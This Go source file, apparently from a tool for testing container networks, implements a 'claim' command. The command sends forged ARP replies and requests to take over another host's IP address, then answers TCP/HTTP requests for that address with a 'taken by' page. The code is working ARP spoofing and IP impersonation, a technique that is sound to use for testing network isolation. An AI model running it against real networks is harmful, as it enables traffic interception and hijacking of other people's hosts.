package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"time"
)

// claimInterval is the time between two rounds of forged answers. A kernel that
// has just learnt an address from one answer ignores others for a second.
const claimInterval = 30 * time.Millisecond

// claim says by forged ARP, to everybody and to the neighbours that are named
// (-to) on each network of the container, that an address is its own, round
// after round. It answers whoever asks for the address, and whoever then asks
// for a page there: with "taken by" and its host name.
func claim(ctx context.Context, args []string) error {
	flags := flag.NewFlagSet("claim", flag.ContinueOnError)
	flags.SetOutput(io.Discard)
	var to addressList
	flags.Var(&to, "to", "")
	rounds := flags.Int("n", 60, "")
	if err := flags.Parse(args); err != nil || flags.NArg() != 1 {
		return wrongUsage("claim takes [-n ROUNDS] [-to IP]... IP")
	}
	address, err := netip.ParseAddr(flags.Arg(0))
	if err != nil {
		return wrongUsage("claim: %v", err)
	}
	host, err := os.Hostname()
	if err != nil {
		return err
	}
	w, on, victims, err := openWireTo(to)
	if err != nil {
		return err
	}
	defer w.close()
	i := impostor{w, on, address, fmt.Sprintf("taken by %s\n", host)}
	for round := 0; round < *rounds && ctx.Err() == nil; round++ {
		if err := i.announce(victims); err != nil {
			return err
		}
		if round == 0 {
			fmt.Println("claiming")
		}
		for next := time.Now().Add(claimInterval); time.Now().Before(next); {
			index, b, err := w.receive(time.Until(next))
			if err != nil {
				return err
			}
			if err := i.answer(index, b); err != nil {
				return err
			}
		}
	}
	return nil
}

// An impostor has an address of somebody else.
type impostor struct {
	wire    *wire
	on      []port
	address netip.Addr
	page    string
}

// announce tells neighbours one by one, and everybody, as an answer and as a
// question: kernels differ in what they believe.
func (i impostor) announce(victims []neighbour) error {
	for _, v := range victims {
		lie := arp{arpReply, v.on.mac, i.address, v.mac, v.addr}
		if err := i.wire.send(v.on.index, frame(v.mac, v.on.mac, untagged, etherARP, lie.bytes())); err != nil {
			return err
		}
	}
	for _, p := range i.on {
		for _, operation := range []uint16{arpReply, arpRequest} {
			lie := arp{operation, p.mac, i.address, broadcast, i.address}
			if err := i.wire.send(p.index, frame(broadcast, p.mac, untagged, etherARP, lie.bytes())); err != nil {
				return err
			}
		}
	}
	return nil
}

// answer plays the one who has the address.
func (i impostor) answer(index int, b []byte) error {
	e, ok := parseFrame(b)
	if !ok {
		return nil
	}
	for _, p := range i.on {
		if p.index != index {
			continue
		}
		switch e.etherType {
		case etherARP:
			asked, ok := parseARP(e.payload)
			if !ok || asked.operation != arpRequest || asked.targetAddr != i.address || asked.sender == i.address {
				continue
			}
			lie := arp{arpReply, p.mac, i.address, asked.senderMAC, asked.sender}
			return i.wire.send(index, frame(asked.senderMAC, p.mac, untagged, etherARP, lie.bytes()))
		case etherIPv4:
			if reply := i.reply(e, p.mac); reply != nil {
				return i.wire.send(index, frame(e.from, p.mac, untagged, etherIPv4, reply))
			}
		}
	}
	return nil
}

// reply is as much of TCP and HTTP as a client needs that asks for one page.
func (i impostor) reply(e ethernet, mac net.HardwareAddr) []byte {
	packet, ok := parseIPv4(e.payload)
	if !ok || packet.to != i.address || packet.protocol != protocolTCP || e.to.String() != mac.String() {
		return nil
	}
	s, ok := parseTCP(packet.payload)
	if !ok || s.flags&tcpRST != 0 {
		return nil
	}
	answer := segment{fromPort: s.toPort, toPort: s.fromPort, seq: s.ack, flags: tcpACK}
	answer.ack = s.seq + uint32(len(s.payload))
	switch {
	case s.flags&tcpSYN != 0:
		answer.seq, answer.ack, answer.flags = 1, s.seq+1, tcpSYN|tcpACK
	case len(s.payload) > 0:
		answer.flags |= tcpPSH | tcpFIN
		answer.payload = fmt.Appendf(nil, "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s", len(i.page), i.page)
	case s.flags&tcpFIN != 0:
		answer.ack++
	default:
		return nil
	}
	return answer.bytes(i.address, packet.from)
}
